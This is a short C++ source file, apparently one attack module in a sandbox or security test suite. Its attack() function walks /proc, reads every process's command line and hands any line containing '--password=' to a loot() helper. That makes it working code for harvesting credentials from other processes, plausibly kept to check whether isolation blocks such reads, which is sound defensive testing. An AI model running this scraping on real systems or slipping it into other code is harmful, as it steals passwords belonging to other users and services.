// Walks through /proc and reads every command line that it finds.
#include "../attack.h"

#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>

static void attack() {
    std::error_code ignored;
    for (const auto& entry : std::filesystem::directory_iterator("/proc", ignored)) {
        std::ifstream file(entry.path() / "cmdline");
        const std::string line{std::istreambuf_iterator<char>(file), {}};
        if (line.find("--password=") != std::string::npos)
            loot(line.data(), line.size());
    }
}
